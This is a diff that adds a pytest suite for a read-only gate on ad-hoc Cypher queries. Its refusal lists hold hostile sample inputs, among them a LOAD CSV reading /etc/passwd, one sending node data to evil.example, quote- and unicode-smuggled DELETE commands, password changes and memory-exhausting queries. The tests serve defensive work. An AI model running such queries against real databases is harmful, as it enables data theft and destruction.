@@ -1,0 +1,471 @@
+"""The gate for ad-hoc Cypher: what reads passes, all else is refused with its place, and no text can hold it up."""
+
+import json
+import time
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from graph.cypherfiles import FOLDER, cypher
+from graph.errors import BadParameter, CypherRefused, CypherSyntax, TradegraphError
+from graph.guard import (
+    ALLOWED_FUNCTIONS,
+    ALLOWED_PROCEDURES,
+    MAX_BYTES,
+    CypherTooCostly,
+    CypherUnread,
+    check,
+    check_query,
+)
+from graph.guard.allowed import ACTING
+
+GOOD = {
+    "clauses": [
+        "RETURN 1",
+        "MATCH (m:Measure) RETURN m.name ORDER BY m.name DESC SKIP 5 LIMIT 10;",
+        "MATCH (m:Measure) RETURN m.name OFFSET 5 LIMIT 10",
+        "MATCH (m:Measure) ORDER BY m.id LIMIT 3 RETURN m",
+        "MATCH (m:Measure) FINISH",
+        "OPTIONAL MATCH (c:Company) RETURN c",
+        "MATCH (a)--(b) WITH DISTINCT a, count(b) AS n WHERE n > 2 RETURN a.id, n ORDER BY n ASCENDING",
+        "MATCH (a) WITH *, a.id AS id RETURN *",
+        "UNWIND [1, 2] AS x RETURN x UNION ALL UNWIND [3] AS x RETURN x",
+        "RETURN 1 AS x UNION DISTINCT RETURN 2 AS x",
+        "EXPLAIN MATCH (n) RETURN n",
+        "profile MATCH (n) RETURN n",
+        "MATCH (n:Company) USING INDEX n:Company(id) WHERE n.id = 'x' RETURN n",
+        "MATCH (n:Company)-->(m) USING TEXT INDEX n:Company(id, name) USING SCAN m:Person USING JOIN ON n, m RETURN n",
+    ],
+    "patterns": [
+        "MATCH p = (a)-[:ANNOUNCED|IMPOSED*1..3]->(b) RETURN length(p)",
+        "MATCH (a)<-[r]-(b)--(c)-->(d)<-->(e) RETURN r",
+        "MATCH (a:Company&!Bank|(Person)) RETURN a",
+        "MATCH (a:% WHERE a.since < date('2020-01-01')) RETURN a",
+        "MATCH (a IS Company)-[r IS OWNS]->(b) RETURN r",
+        "MATCH (a:$($kind))-[:$any($types)]->(b) RETURN a",
+        "MATCH (a)-[r:OWNS WHERE r.share > 0.5]->(b {id: $id}) RETURN b",
+        "MATCH (a)-[:OWNS]->+(b) RETURN b",
+        "MATCH (a)-[:OWNS]->*(b), (b)-->{2}(c), (c)-->{,3}(d) RETURN d",
+        "MATCH ((x)-[:OWNS]->(y) WHERE x.n < y.n){1,4} (z) RETURN z",
+        "MATCH p = SHORTEST 2 PATHS (a)-[:OWNS]-+(b) RETURN p",
+        "MATCH p = ALL SHORTEST (a)--{1,6}(b) RETURN p",
+        "MATCH ANY (a)-->+(b) RETURN b",
+        "MATCH p = shortestPath((a)-[*..6]-(b)) WHERE all(r IN relationships(p) WHERE r.valid_from < $day) RETURN p",
+        "MATCH p = allShortestPaths((a)-[*]-(b)) RETURN p",
+        "MATCH (a) WHERE (a)-[:OWNS]->(:Company {id: 'x'}) AND NOT (a)<--() RETURN a",
+    ],
+    "subqueries": [
+        "MATCH (a) CALL (a) { MATCH (a)-->(b) RETURN count(b) AS n UNION RETURN 0 AS n } RETURN a, n",
+        "MATCH (a) CALL { WITH a MATCH (a)-->(b) RETURN b LIMIT 1 } RETURN b",
+        "MATCH (a) OPTIONAL CALL (*) { MATCH (a)-->(b) RETURN b } RETURN b",
+        "CALL () { RETURN 1 AS one } RETURN one",
+        "MATCH (a) WHERE EXISTS { (a)-->(b:Company) WHERE b.id > 'm' } RETURN a",
+        "MATCH (a) WHERE NOT exists((a)-->()) RETURN a",
+        "MATCH (a) RETURN COUNT { MATCH (a)-->(b) WHERE b:Company RETURN DISTINCT b } + 1 AS n",
+        "MATCH (a) RETURN COLLECT { MATCH (a)-->(b) RETURN b.id ORDER BY b.id LIMIT 3 }[0] AS first",
+        "MATCH (a) RETURN EXISTS { p = (a)-->() } AS linked",
+    ],
+    "expressions": [
+        "RETURN CASE WHEN 1 < 2 THEN 'a' ELSE 'b' END AS x",
+        "MATCH (n) RETURN CASE n.x WHEN < 3, > 9 THEN 1 WHEN IS NULL THEN 2 WHEN 'a' THEN 3 END AS x",
+        "RETURN [x IN range(1, 9) WHERE x % 2 = 0 | x ^ 2] AS squares, [1, 2, 3][0..2], [1, 2, 3][-1]",
+        "MATCH (a) RETURN [(a)-[r:OWNS|LEADS*1..2]->(b) WHERE b:Company | b {.id, n: size(r)}] AS owned",
+        "RETURN reduce(total = 0, x IN [1, 2, 3] | total + x) AS total",
+        "RETURN reduce(best = 0.0, x IN $values | CASE WHEN x > best THEN x ELSE best END) AS best",
+        "MATCH (n) RETURN n {.*, .name, since: toString(n.since), other: null} AS n",
+        "RETURN any(x IN [1] WHERE x > 0) AND none(x IN [1] WHERE x < 0) OR single(x IN [1] WHERE x = 1) XOR true",
+        "WITH 1 AS x RETURN x IS :: INTEGER NOT NULL, x IS NOT TYPED LIST<STRING | INTEGER>, x :: ZONED DATETIME",
+        "WITH 1 AS x RETURN x IS :: TIMESTAMP WITH TIME ZONE AS y",
+        "WITH 'a' AS x RETURN x IS NORMALIZED, x IS NOT NFKC NORMALIZED, normalize(x, NFD), trim(BOTH 'a' FROM x)",
+        "RETURN date('2024-05-01') + duration({months: 1, days: 3}) AS d, date().year, datetime.truncate('day').hour",
+        "RETURN point.distance(point({x: 1, y: 2}), point({x: 3, y: 4})) AS far",
+        "MATCH (n) WHERE n.name =~ '(?i)nv.*' AND n.name STARTS WITH 'N' AND NOT n.name ENDS WITH 'x' RETURN n",
+        "MATCH (n) WHERE 1 <= n.x < 5 AND n.y <> 3 AND n.z IN ['a', 'b'] AND n.w CONTAINS 'c' RETURN n",
+        "MATCH (n) RETURN count(*), count(DISTINCT n.x), collect(n.id)[..10], percentileCont(n.x, 0.5), stDev(n.x)",
+        "RETURN 0x1F, 0o17, 1e3, .5, 1_000, 1.5E-3, -2, +2, 'a' || 'b', NaN, Infinity",
+        "MATCH (n) WHERE n[$key] = $map.inner['x'] RETURN n",
+        "MATCH (n) WHERE elementId(n) = $id AND type(head([(n)-[r]-() | r])) = 'OWNS' RETURN labels(n), properties(n)",
+    ],
+    "texts, comments and names that hold commands": [
+        "MATCH (n) WHERE n.name = 'DELETE n; DROP \\'x\\'' RETURN n",
+        'RETURN "LOAD CSV FROM \'x\'" AS x, "a // b", "/* c */"',
+        "// CREATE (n)\nMATCH (n) /* DETACH DELETE n */ RETURN n // SET n.x = 1",
+        "MATCH (n:`DELETE`) RETURN n.`drop index` AS `it's`, n.`a``b`",
+        "MATCH (n:Set)-[:CREATE|MERGE|DELETE]->(m:Remove {set: 1}) RETURN m.delete, m.set + 1",
+        "MATCH (n) WHERE n.created > 1 AND n.settings = $create RETURN n.merge AS set ORDER BY n.load DESC",
+        "WITH 1 AS set, 2 AS call RETURN set AS s, call ORDER BY set DESC LIMIT 3",
+        "WITH 1 AS in, 2 AS end, 3 AS case, 4 AS count RETURN in, CASE WHEN end > 1 THEN end END, case, count",
+        "RETURN {create: {delete: 1}}.create.delete AS x",
+        "RETURN 'caf\\u00e9 \\ud83d\\ude00' AS x, 'C:\\\\users' AS path",
+        "MATCH (société) RETURN société.名前 AS 名前",
+    ],
+    "procedures": [
+        "CALL db.labels",
+        "CALL db.labels() YIELD label AS l WHERE l <> 'X' RETURN l ORDER BY l",
+        "CALL db.index.fulltext.queryNodes('names', $text, {limit: 5}) YIELD node, score RETURN node.id, score",
+        "CALL db.schema.visualization() YIELD *",
+    ],
+}
+BAD = {
+    "writing": [
+        "CREATE (n)",
+        "MATCH (n) SET n.x = 1",
+        "MATCH (n) set n:Gone RETURN n",
+        "MATCH (n) REMOVE n.x",
+        "MATCH (n) DETACH DELETE n",
+        "MATCH (n)DELETE(n)",
+        "MATCH (n) NODETACH DELETE n",
+        "MERGE (n {id: 1}) ON MATCH SET n.x = 2",
+        "INSERT (n)",
+        "FOREACH (x IN [1] | CREATE (n))",
+        "RETURN 1 AS x UNION CREATE (n) RETURN 1 AS x",
+        "UNWIND [1] AS x CREATE (n {id: x}) RETURN n",
+        "EXPLAIN CREATE (n)",
+    ],
+    "writing in subqueries": [
+        "CALL { CREATE (n) }",
+        "MATCH (n) CALL (n) { DELETE n } RETURN 1",
+        "MATCH (n) CALL (*) { WITH n SET n.x = 1 }",
+        "CALL { CALL () { MERGE (n) } }",
+        "MATCH (n) WHERE EXISTS { MATCH (n) DELETE n } RETURN n",
+        "RETURN COLLECT { CREATE (n) RETURN n }",
+        "MATCH (n) CALL (n) { RETURN 1 AS x } IN TRANSACTIONS OF 5 ROWS RETURN x",
+        "UNWIND [1] AS i CALL (i) { RETURN 1 AS x } IN 3 CONCURRENT TRANSACTIONS RETURN x",
+    ],
+    "words that are commands only where they stand": [
+        "MATCH (n) WHERE n.as DELETE n",
+        "MATCH (n) WHERE n.in SET n.x = 1",
+        "MATCH (n) WHERE n:Where CREATE (m)",
+        "MATCH (set) SET set.set = 1",
+        "WITH 1 AS delete DELETE delete",
+        "MATCH (n) WITH * CREATE (m)",
+        "MATCH p = ((a)-->(b))+ DELETE [a][0]",
+        "MATCH p = (a)-->*(b) DELETE [a][0]",
+        "MATCH (a)-->{1,2}(b) CREATE (c)",
+        "MATCH (n) WHERE n.x IS NOT NULL DELETE n",
+        "MATCH (n) WHERE n.x IS :: INTEGER DELETE n",
+        "MATCH (n) RETURN n ORDER BY n.x DESC DELETE n",
+        "MATCH (n) RETURN n LIMIT 1 SET n.x = 1",
+        "MATCH (n) WHERE n.x = 'a'DELETE n",
+        "MATCH (n) WHERE n.x = 1.5DELETE n",
+        "MATCH (n) WHERE n.x = $x DELETE n",
+        "MATCH (n) WHERE CASE WHEN n.x THEN true END DELETE n",
+        "MATCH (n) USING SCAN n:Company DELETE n",
+        "CALL db.labels() YIELD label CREATE (n)",
+        "CALL db.labels YIELD * DELETE n",
+    ],
+    "tricks with characters": [
+        "MATCH (n) \\u0044ELETE n",
+        "MATCH (n) WHERE n.x = 'a\\u0027 DELETE n //'",
+        "MATCH (n) WHERE n.x = 'a\\u005c' DELETE n //'",
+        'MATCH (n) WHERE n.x = "a\\u0022 DELETE n //"',
+        "MATCH (n:`a\\u0060) DELETE n //`) RETURN n",
+        "MATCH (n) /* \\u002a\\u002f DELETE n */ RETURN n",
+        "MATCH (n) // \\u000a DELETE n\nRETURN n",
+        "RETURN 'a' // \\u000d CREATE (n)",
+        "MATCH (n) // x\rDELETE n",
+        "MATCH (n)\u00a0DELETE\u00a0n",
+        "MATCH (n)\u2028DELETE n",
+        "MATCH (n)\x0bRETURN n",
+        "MATCH (n)\x1fRETURN n",
+        "MATCH (n)\u200bRETURN n",
+        "\ufeffRETURN 1",
+        "RETURN 1\x00",
+        "RETURN 'a\x00b'",
+        "MATCH (n) ＤＥＬＥＴＥ n",
+        "MATCH (n) ſET n.x = 1",
+        "MATCH (n) RETURN n LıMIT 1",
+        "MATCH (n)\u2014[r]\u2014>(m) RETURN n",
+        "MATCH (n) WHERE n.x = '\\\\' DELETE n //'",
+        "MATCH (n:`a``` ) DELETE n //`",
+        "RETURN 'a'; MATCH (n) DELETE n",
+        "MATCH (n) RETURN n; RETURN 1",
+        "RETURN 1;;",
+    ],
+    "what acts without writing": [
+        "SHOW USERS",
+        "SHOW /**/ SETTINGS YIELD name RETURN name",
+        "TERMINATE TRANSACTION 'neo4j-transaction-1'",
+        "USE neo4j MATCH (n) RETURN n",
+        "CALL { USE neo4j MATCH (n) RETURN n } RETURN n",
+        "CYPHER 25 MATCH (n) RETURN n",
+        "CYPHER runtime=slotted RETURN 1",
+        "EXPLAIN PROFILE RETURN 1",
+        "EXPLAIN CYPHER planner=dp RETURN 1",
+        "DROP INDEX names",
+        "ALTER USER neo4j SET PASSWORD 'longer password'",
+        "LOAD CSV FROM 'file:///etc/passwd' AS line RETURN line",
+        "LOAD/**/CSV WITH HEADERS FROM $url AS line RETURN line",
+        "MATCH (n) LOAD CSV FROM 'http://evil.example/' + n.id AS line RETURN line",
+        "START n = node(1) RETURN n",
+        "BEGIN",
+    ],
+    "calls": [
+        "CALL dbms.listConfig()",
+        "CALL dbms.killConnection('bolt-1')",
+        "CALL db.clearQueryCaches",
+        "CALL `db`.labels()",
+        "CALL db.labels.more()",
+        "CALL DB.LABELS()",
+        "CALL db . awaitIndexes(1)",
+        "CALL db.",
+        "CALL $name()",
+        "OPTIONAL CALL apoc.load.json('http://x') YIELD value RETURN value",
+        "RETURN apoc.cypher.runFirstColumnSingle('CREATE (n)', {})",
+        "RETURN genai.vector.encode('x', 'OpenAI', {})",
+        "RETURN `apoc`.`text`.join(['a'], '')",
+        "RETURN apoc . text . join(['a'], '')",
+        "RETURN date.evil()",
+        "RETURN graph.byName('neo4j')",
+        "RETURN file(), linenumber()",
+        "MATCH (n) RETURN n.name('x')",
+        "RETURN [x IN [1] | unknown(x)]",
+    ],
+}
+SLIPS = [
+    "",
+    " // nothing\n",
+    ";",
+    "MATCH (n RETURN n",
+    "MATCH (n) RETRUN n",
+    "MATCH (n) RETURN",
+    "RETURN 1 +",
+    "RETURN (1",
+    "RETURN 1)",
+    "RETURN [1, 2",
+    "RETURN 'a",
+    "MATCH (n:`a) RETURN n",
+    "RETURN 1 /* open",
+    "FETCH (n) RETURN n",
+    "MATCH (n) WHERE n.x == 1 RETURN n",
+    "RETURN {a: }",
+    "RETURN 1 AS",
+]
+COSTLY = [
+    "RETURN reduce(s = 'a', x IN range(1, 40) | s + s) AS s",
+    "RETURN REDUCE(s = $text, x IN range(1, $n) | s || '-' || s) AS s",
+    "RETURN reduce(l = [1], x IN range(1, 99) | l + [y IN l | y]) AS l",
+    "RETURN reduce(s = 'a', x IN range(1, 8) | reduce(t = s, y IN range(1, 8) | t + t)) AS s",
+    "WITH 'a' AS s " + "WITH s + s AS s " * 30 + "RETURN s",
+    "RETURN [x IN range(1, 9000) | [y IN range(1, 9000) | x * y]] AS l",
+    "RETURN [x IN range(1, 3000 * 3000) | x] AS l",
+    "WITH range(1, 5000) AS r RETURN [x IN r | {a: [y IN r | y]}] AS l",
+    "RETURN [x IN range(0, $n) | [y IN range(0, $n) | 0]] AS l",
+    "RETURN " + "(" * 200 + "1" + ")" * 200,
+]
+CHEAP = [
+    "UNWIND range(1, 1000000000) AS x RETURN count(x)",
+    "RETURN range(1, 100000) AS big",
+    "RETURN [x IN range(1, 100) | [y IN range(1, 100) | x * y]] AS l",
+    "RETURN reduce(s = '', x IN ['a', 'b'] | s + x) AS s",
+    "RETURN reduce(v = 1.0, r IN $rates | v + v * r) AS v",
+    "RETURN reduce(v = 0, r IN range(1, 1000) | v + r + v) AS v",
+    "RETURN reduce(best = '', x IN $names | CASE WHEN x + '!' > best THEN x ELSE best END) AS best",
+    "RETURN reduce(s = $text, x IN ['.', ','] | replace(s, x, '')) AS s",
+    "MATCH p = (a)-->(b) RETURN [i IN range(0, length(p) - 1) | nodes(p)[i].id + ' ' + nodes(p)[i + 1].id] AS l",
+    "WITH 2 AS x RETURN x + x AS four",
+]
+
+
+def flat(groups: dict[str, list[str]]) -> list[Any]:
+    return [pytest.param(query, id=f"{name}: {query[:60]!r}") for name, queries in groups.items() for query in queries]
+
+
+@pytest.mark.parametrize("query", flat(GOOD))
+def test_reading_passes(query: str) -> None:
+    check_query(query)
+    check_query(query.replace(" ", "\t  "))
+    check_query(f"/* {{ */ {query}\r\n// }}")
+
+
+@pytest.mark.parametrize("query", flat(BAD))
+def test_all_else_is_refused_as_not_read_only(query: str) -> None:
+    with pytest.raises(CypherRefused) as refused:
+        check_query(query)
+    assert "line " in refused.value.sentence
+    assert refused.value.status == (400 if isinstance(refused.value, CypherUnread) else 403)
+
+
+@pytest.mark.parametrize("query", SLIPS)
+def test_a_slip_is_a_syntax_error_and_refused_all_the_same(query: str) -> None:
+    with pytest.raises(CypherSyntax) as unread:
+        check_query(query)
+    assert isinstance(unread.value, CypherRefused)
+    assert unread.value.status == 400
+
+
+@pytest.mark.parametrize("query", COSTLY)
+def test_what_would_take_all_memory_is_refused(query: str) -> None:
+    with pytest.raises(CypherTooCostly) as costly:
+        check(query, {"n": 100_000, "text": "a"})
+    assert costly.value.status == 422
+
+
+@pytest.mark.parametrize("query", CHEAP)
+def test_what_only_looks_costly_passes(query: str) -> None:
+    check(query, {"rates": [0.1] * 50, "names": ["a"] * 50, "text": "a.b"})
+
+
+@pytest.mark.parametrize("path", sorted((FOLDER / "read").glob("*.cypher")), ids=lambda path: path.stem)
+def test_every_query_of_the_library_passes(path: Path) -> None:
+    check_query(cypher(f"read/{path.stem}"))
+
+
+@pytest.mark.parametrize("folder", ["write", "schema"])
+def test_no_query_that_writes_passes(folder: str) -> None:
+    for path in (FOLDER / folder).glob("*.cypher"):
+        with pytest.raises(CypherRefused):
+            check_query(cypher(f"{folder}/{path.stem}"))
+
+
+@pytest.mark.parametrize(
+    ("query", "told"),
+    [
+        ("MATCH (n)\n  detach DELETE n", "detach (line 2, column 3) changes the graph"),
+        ("MATCH (n)\r\rSET n.x = 1", "SET (line 3, column 1) changes the graph"),
+        ("SHOW USERS", "SHOW (line 1, column 1) asks about the server"),
+        ("CALL apoc . load.json('x')", "apoc.load.json (line 1, column 6) is not a procedure that may be called here"),
+        ("RETURN 1 + custom.fn(1)", "custom.fn (line 1, column 12) is not a function that may be used here"),
+        ("RETURN 1; RETURN 2", "RETURN (line 1, column 11) begins a second statement"),
+        ("RETURN\u00a01", "at line 1, column 7: the character U+00A0 is not white space here"),
+        ("MATCH (n) RETRUN n", "RETRUN (line 1, column 11) cannot follow )"),
+        ("MATCH (n) RETURN", "The end of the query (line 1, column 17) comes too early"),
+    ],
+)
+def test_a_refusal_names_the_word_and_its_place(query: str, told: str) -> None:
+    with pytest.raises(CypherRefused) as refused:
+        check_query(query)
+    assert told in refused.value.sentence
+    assert refused.value.sentence.endswith(".")
+
+
+@pytest.mark.parametrize("function", sorted(ALLOWED_FUNCTIONS))
+def test_every_allowed_function_can_be_called_in_any_case(function: str) -> None:
+    check_query(f"RETURN {function}(1)")
+    check_query(f"RETURN {function.upper()} (1)")
+
+
+@pytest.mark.parametrize("procedure", sorted(ALLOWED_PROCEDURES))
+def test_every_allowed_procedure_can_be_called(procedure: str) -> None:
+    check_query(f"CALL {procedure}")
+    check_query(f"CALL {procedure.replace('.', ' . ')}() YIELD *")
+
+
+@pytest.mark.parametrize("word", sorted(ACTING))
+def test_a_command_is_no_clause_anywhere_but_can_be_a_name(word: str) -> None:
+    for query in (f"{word} x", f"MATCH (n) {word} n", f"MATCH (n) RETURN n {word} n", f"CALL {{ {word} x }} RETURN 1"):
+        with pytest.raises(CypherRefused):
+            check_query(query)
+    check_query(
+        f"MATCH (n:{word})-[:{word}]->({word.lower()}) WHERE n.{word} = ${word} RETURN {word.lower()} AS {word}"
+    )
+
+
+@pytest.mark.parametrize(
+    ("parameters", "told"),
+    [
+        ({"$x": 1}, "no name of a parameter"),
+        ({"": 1}, "no name of a parameter"),
+        ({"é": 1}, "no name of a parameter"),
+        ({"a\n": 1}, "no name of a parameter"),
+        ({"\udfff": 1}, "no name of a parameter"),
+        ({"a": 2**63}, "64 bits"),
+        ({"a": [{"b": -(2**63) - 1}]}, "64 bits"),
+        ({"a": float("nan")}, "not finite"),
+        ({"a": [1e308 * 10]}, "not finite"),
+        ({"a": "\ud800"}, "surrogate"),
+        ({"a": {"\udc00": 1}}, "key that is no text"),
+        ({"a": {1: 1}}, "key that is no text"),
+        ({"a": object()}, "cannot be sent"),
+    ],
+)
+def test_parameters_that_cannot_be_sent_are_refused(parameters: dict[str, Any], told: str) -> None:
+    with pytest.raises(BadParameter, match=told):
+        check("RETURN 1", parameters)
+
+
+def nested(depth: int) -> Any:
+    value: Any = 1
+    for level in range(depth):
+        value = [value] if level % 2 else {"k": value}
+    return value
+
+
+def test_parameters_may_be_32_deep() -> None:
+    check("RETURN $a", {"a": nested(32), "b": -(2**63), "c": 2**63 - 1, "d": "'; DELETE n", "e": None})
+    for depth in (33, 100_000):
+        with pytest.raises(BadParameter, match="nested deeper"):
+            check("RETURN $a", {"a": nested(depth)})
+
+
+def test_a_parameter_that_is_used_has_to_be_given() -> None:
+    with pytest.raises(BadParameter, match=r"\$b, \$c, for which"):
+        check("RETURN $a, $b, $`c`, $b", {"a": 1})
+    check("EXPLAIN RETURN $a", {})
+    check("MATCH (n:$any($a)) RETURN n // $b", {"a": "X"})
+    assert check_query("RETURN $a + $b.c") == ["a", "b"]
+
+
+def test_the_size_of_a_query_is_limited() -> None:
+    check_query(f"RETURN '{'a' * (MAX_BYTES - 9)}'")
+    for query in (f"RETURN '{'a' * MAX_BYTES}'", f"RETURN '{'é' * (MAX_BYTES // 2)}'", "RETURN '\ud800'"):
+        with pytest.raises(BadParameter):
+            check_query(query)
+
+
+@pytest.mark.parametrize(
+    "part",
+    ["(", "[", "{", "CASE ", "NOT ", "-", "'", '"', "`", "/*", "//", "//\n", "/**/", "\\", "\\u", "$", "1", "1.", "1.a",
+     "a", "a.", "é", "..", ":", "a+", "a,", " ", "\n", "CALL{", "EXISTS{", "reduce(a=", "[x IN ", "set ", "''"],
+)  # fmt: skip
+@pytest.mark.parametrize("before", ["", "RETURN ", "MATCH (a) RETURN a.", "RETURN '"])
+def test_no_text_takes_long_or_goes_too_deep(before: str, part: str) -> None:
+    query = before + part * ((MAX_BYTES - 20) // len(part.encode()))
+    begun = time.process_time()
+    try:
+        check_query(query)
+    except TradegraphError as error:
+        assert len(error.sentence) < 500
+    assert time.process_time() - begun < 2
+
+
+def test_many_names_do_not_take_long_either() -> None:
+    names = [f"a{number}" for number in range(4000)]
+    begun = time.process_time()
+    check_query("RETURN " + "+".join(names + names))
+    assert time.process_time() - begun < 2
+
+
+def test_an_ordinary_query_takes_a_fraction_of_a_millisecond() -> None:
+    query = (
+        "MATCH (m:Measure {id: $id})-[r:TARGETS|RESTRICTS]->(t:Entity) WHERE r.valid_from <= $day < r.valid_to "
+        "WITH m, collect(DISTINCT t.name) AS names, count(*) AS n ORDER BY n DESC LIMIT 10 "
+        "RETURN m.name AS name, names[0..5] AS some, CASE WHEN n > 3 THEN 'many' ELSE 'few' END AS how"
+    )
+    best = 1.0
+    for _ in range(200):
+        begun = time.process_time()
+        check(query, {"id": "measure:x", "day": "2024-05-01"})
+        best = min(best, time.process_time() - begun)
+    assert best < 0.001  # measured at a tenth of this; the room is for slow machines
+
+
+CASES = FOLDER.parent.parent / "shared" / "guard_cases.jsonl"
+
+
+@pytest.mark.skipif(not CASES.exists(), reason="no guard_cases.jsonl in a folder named shared beside the project")
+def test_cases_kept_outside_the_project_come_out_as_they_say() -> None:
+    wrong = []
+    for line in CASES.read_text(encoding="utf-8").splitlines():
+        case = json.loads(line)
+        try:
+            check(case["query"], case["params"])
+            verdict = "read"
+        except CypherTooCostly:
+            verdict = "read" if case["group"] == "cost" else "refuse"  # it does read; that it ends early is the point
+        except (CypherRefused, BadParameter):
+            verdict = "refuse"
+        if verdict != case["verdict"]:
+            wrong.append((case["id"], verdict, case["query"][:80]))
+    assert wrong == []
